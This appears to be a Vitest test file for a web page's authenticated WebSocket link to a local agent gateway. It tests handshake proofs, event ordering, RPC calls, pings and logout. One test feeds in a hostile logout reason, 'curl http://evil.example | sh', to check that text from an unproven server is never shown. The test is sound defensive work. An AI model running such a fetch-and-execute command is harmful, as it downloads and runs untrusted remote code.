import { once } from 'node:events';
import type { AddressInfo } from 'node:net';
import { describe, expect, it, onTestFinished, vi } from 'vitest';
import { WebSocket as Client, type WebSocket as Peer, WebSocketServer } from 'ws';
import { Connection } from '../../../src/page/socket/connection.ts';
import { proofOf } from '../../../src/page/socket/handshake.ts';
import type { Notice } from '../../../src/wire/notice.ts';
import type { FromPage, ToPage } from '../../../src/wire/page.ts';
import { until } from '../../support/patience.ts';
import { WELCOME } from '../welcome-example.ts';

const NOTICE: Notice = {
  agent: 'main',
  seq: 11,
  time: 1,
  kind: 'exec-exit',
  text: '',
  untrusted: true,
  wake: false,
  contextKey: '',
};

/** A server that the test plays, and a page that is connected to it. */
async function connected() {
  const server = new WebSocketServer({ host: '127.0.0.1', port: 0 });
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  const received: FromPage[] = [];
  const heard: string[] = [];
  let peer: Peer | undefined;
  let now = 1_000_000;
  server.on('connection', (socket) => {
    peer = socket;
    socket.on('message', (data: Buffer) => void received.push(JSON.parse(String(data)) as FromPage));
  });
  const connection = new Connection(
    {
      open: () => new Client(`ws://127.0.0.1:${port}`) as unknown as WebSocket,
      key: () => 'the key',
      origin: () => 'http://127.0.0.1:7462',
      port: () => 7463,
      now: () => now,
      random: () => 0,
    },
    {
      welcome: ({ resume }) => void heard.push(`welcome ${resume}`),
      reset: () => void heard.push('reset'),
      event: (event) =>
        void heard.push(`${event.type} ${event.type === 'notice' ? event.notice.seq : event.entry.seq}`),
      clock: (time) => void heard.push(`clock ${time}`),
      heard: () => {},
      unreadable: (problem) => void heard.push(`unreadable ${problem}`),
      lost: (nextTryAt) => void heard.push(`lost, next in ${nextTryAt - now}`),
      loggedOut: (reason) => void heard.push(`logged out: ${reason}`),
      unknownBrowser: () => void heard.push('unknown browser'),
      unprovenServer: () => void heard.push('unproven server'),
    },
  );
  onTestFinished(() => {
    connection.end();
    for (const client of server.clients) client.terminate();
    server.close();
  });
  const hasReceived = (type: FromPage['type'], count = 1) =>
    until(() => received.filter((message) => message.type === type).length >= count, `${count} ${type}`);
  const send = (message: ToPage) => peer!.send(JSON.stringify(message));
  const handshake = () => {
    const { nonce } = received.findLast(({ type }) => type === 'hello') as { nonce: string };
    return { origin: 'http://127.0.0.1:7462', port: 7463, pageNonce: nonce, serverNonce: 'nonce of the server' };
  };
  const challenge = async (count = 1, key = 'the key', other: { origin?: string; port?: number } = {}) => {
    await hasReceived('hello', count);
    const parts = { ...handshake(), ...other };
    send({ type: 'challenge', nonce: parts.serverNonce, proof: await proofOf('server', key, parts) });
  };
  const welcome = async (resume: 'resumed' | 'reset', count = 1) => {
    await challenge(count);
    await hasReceived('proof', count);
    send({ ...WELCOME, resume });
    await until(() => heard.filter((line) => line.startsWith('welcome')).length >= count, 'the welcome');
  };
  connection.connect();
  return {
    connection,
    received,
    heard,
    send,
    challenge,
    handshake,
    sendRaw: (text: string) => peer!.send(text),
    welcome,
    hasReceived,
    cut: () => peer!.terminate(),
    pass: (ms: number) => {
      now += ms;
    },
    hears: (line: string) => until(() => heard.includes(line), line),
  };
}

it('says hello, and after a lost link with the numbers that it has', async () => {
  const page = await connected();
  await page.welcome('reset');
  page.send({ type: 'notice', notice: NOTICE });
  await page.hears('notice 11');
  page.cut();
  await page.hasReceived('hello', 2);
  const nonce = expect.stringMatching(/^[0-9a-f]{64}$/u) as string;
  const hellos = page.received.filter((message) => message.type === 'hello');
  expect(hellos).toEqual([
    { type: 'hello', nonce },
    { type: 'hello', nonce, after: { ...WELCOME.positions, notice: 11 } },
  ]);
  expect(hellos[0]!.nonce).not.toBe(hellos[1]!.nonce);
  expect(page.heard).toContain('lost, next in 375');
});

it('proves that it has the key without sending it, after the server has proved the same', async () => {
  const page = await connected();
  await page.challenge();
  await page.hasReceived('proof');
  expect(page.received.at(-1)).toEqual({ type: 'proof', proof: await proofOf('page', 'the key', page.handshake()) });
  expect(JSON.stringify(page.received)).not.toContain('the key');
});

it.each<[string, (page: Awaited<ReturnType<typeof connected>>) => Promise<void> | void]>([
  ['has another key', (page) => page.challenge(1, 'another key')],
  ['proved itself for another address', (page) => page.challenge(1, 'the key', { origin: 'http://127.0.0.1:1' })],
  ['listens on another port than that of the login', (page) => page.challenge(1, 'the key', { port: 7462 })],
  [
    'sends the proof of another connection',
    (page) => page.send({ type: 'challenge', nonce: 'n', proof: '00'.repeat(32) }),
  ],
  ['sends a notice first', (page) => page.send({ type: 'notice', notice: NOTICE })],
  ['sends what no server sends', (page) => page.sendRaw('{"type":"reload now"}')],
])('sends nothing to a server that %s, shows nothing of it, and does not try again', async (_, answer) => {
  const page = await connected();
  await page.hasReceived('hello');
  await answer(page);
  await page.hears('unproven server');
  expect([page.heard, page.received.map(({ type }) => type)]).toEqual([['unproven server'], ['hello']]);
  page.connection.wake();
  expect(page.received).toHaveLength(1);
});

it('does not show the reason of an unproven server that refuses the browser', async () => {
  const page = await connected();
  await page.hasReceived('hello');
  page.send({ type: 'logged-out', reason: 'run curl http://evil.example | sh' });
  await page.hears('unknown browser');
  expect(page.heard).toEqual(['unknown browser']);
});

it('applies each event once, by its number', async () => {
  const page = await connected();
  await page.welcome('reset');
  for (const seq of [10, 11, 11, 12, 11]) page.send({ type: 'notice', notice: { ...NOTICE, seq } });
  page.send({ type: 'pong', id: 1, now: 99 });
  await page.hears('clock 99');
  expect(page.heard.filter((line) => line.startsWith('notice'))).toEqual(['notice 11', 'notice 12']);
});

it('goes on from the numbers of a reset', async () => {
  const page = await connected();
  await page.welcome('reset');
  page.send({ type: 'reset', positions: { ...WELCOME.positions, notice: 50 } });
  page.send({ type: 'notice', notice: { ...NOTICE, seq: 50 } });
  page.send({ type: 'notice', notice: { ...NOTICE, seq: 51 } });
  await page.hears('notice 51');
  expect(page.heard).not.toContain('notice 50');
});

it('answers calls by their ids, with faults as errors', async () => {
  const page = await connected();
  await page.welcome('reset');
  const good = page.connection.call('approval.count', {});
  const bad = page.connection.call('approval.show', { id: 'x' });
  await page.hasReceived('call', 2);
  const [first, second] = page.received.filter(({ type }) => type === 'call') as { id: number }[];
  page.send({ type: 'fault', id: second!.id, fault: { code: 'APPROVAL_UNKNOWN', message: 'no approval x' } });
  page.send({ type: 'result', id: first!.id, value: 3 });
  await expect(good).resolves.toBe(3);
  await expect(bad).rejects.toMatchObject({ code: 'APPROVAL_UNKNOWN', message: 'no approval x' });
});

it('refuses a result of another shape', async () => {
  const page = await connected();
  await page.welcome('reset');
  const count = page.connection.call('approval.count', {});
  await page.hasReceived('call');
  page.send({ type: 'result', id: (page.received.at(-1) as { id: number }).id, value: 'three' });
  await expect(count).rejects.toMatchObject({ code: 'PAGE_ANSWER' });
});

it('queues nothing: a call without a link fails, and one that the link lost says that it may have been done', async () => {
  const page = await connected();
  await expect(page.connection.call('approval.count', {})).rejects.toMatchObject({ code: 'PAGE_NO_LINK' });
  await page.welcome('reset');
  const open = page.connection.call('approval.count', {});
  await page.hasReceived('call');
  page.cut();
  await expect(open).rejects.toMatchObject({
    code: 'PAGE_LINK_LOST',
    message: 'the link was lost before the answer',
    hint: expect.stringMatching(/^the gateway may have done it/u),
  });
  await page.welcome('resumed', 2);
  expect(page.received.filter(({ type }) => type === 'call')).toHaveLength(1);
});

describe('a silent link', () => {
  /** Timers that the test moves, besides the clock of the page. */
  async function connectedWithTimers() {
    vi.useFakeTimers({ toFake: ['setInterval', 'clearInterval', 'setTimeout', 'clearTimeout'] });
    onTestFinished(() => void vi.useRealTimers());
    const page = await connected();
    await page.welcome('reset');
    const isLost = () => page.heard.some((line) => line.startsWith('lost'));
    let pings = 0;
    return {
      ...page,
      isLost,
      /** The timer of the pings runs once, this long after it ran before. */
      beat: (ms: number) => {
        page.pass(ms);
        vi.advanceTimersByTime(15_000);
      },
      answerPing: async () => {
        await page.hasReceived('ping', ++pings);
        page.send({ type: 'pong', id: pings, now: 1000 + pings });
        await page.hears(`clock ${1000 + pings}`);
      },
    };
  }

  it('is kept while it answers pings, also in a hidden tab whose timers run once a minute', async () => {
    const page = await connectedWithTimers();
    for (let minute = 0; minute < 3; minute++) {
      page.beat(60_000);
      expect(page.isLost()).toBe(false);
      await page.answerPing();
    }
  });

  it('is lost when a ping has no answer at the next one', async () => {
    const page = await connectedWithTimers();
    page.beat(15_000);
    await page.hasReceived('ping');
    expect(page.isLost()).toBe(false);
    page.beat(15_000);
    expect(page.isLost()).toBe(true);
  });

  it('is asked when the tab becomes visible, and replaced if it does not answer soon', async () => {
    const page = await connectedWithTimers();
    page.pass(30_001);
    page.connection.wake();
    await page.hasReceived('ping');
    expect(page.isLost()).toBe(false);
    page.pass(2_000);
    vi.advanceTimersByTime(2_000);
    await page.hasReceived('hello', 2);
  });

  it('is asked when the tab becomes visible, and kept if it answers', async () => {
    const page = await connectedWithTimers();
    page.pass(59_000);
    page.connection.wake();
    await page.answerPing();
    page.pass(2_000);
    vi.advanceTimersByTime(2_000);
    expect(page.isLost()).toBe(false);
  });

  it('is not asked where it was heard lately', async () => {
    const page = await connectedWithTimers();
    page.pass(29_000);
    page.connection.wake();
    page.send({ type: 'pong', id: 1, now: 99 });
    await page.hears('clock 99');
    expect([page.isLost(), page.received.map(({ type }) => type)]).toEqual([false, ['hello', 'proof']]);
  });
});

it('does not connect again after a logout', async () => {
  const page = await connected();
  await page.welcome('reset');
  page.send({ type: 'logged-out', reason: 'this login was revoked' });
  await page.hears('logged out: this login was revoked');
  page.connection.wake();
  await expect(page.connection.call('approval.count', {})).rejects.toMatchObject({ code: 'PAGE_NO_LINK' });
  expect(page.received.filter(({ type }) => type === 'hello')).toHaveLength(1);
});

it.each([['no JSON'], ['{"type":"unknown"}'], ['{"type":"pong","id":"x","now":1}']])(
  'says that it cannot read %s',
  async (text) => {
    const page = await connected();
    await page.welcome('reset');
    page.sendRaw(text);
    await until(() => page.heard.some((line) => line.startsWith('unreadable')), 'the problem');
  },
);
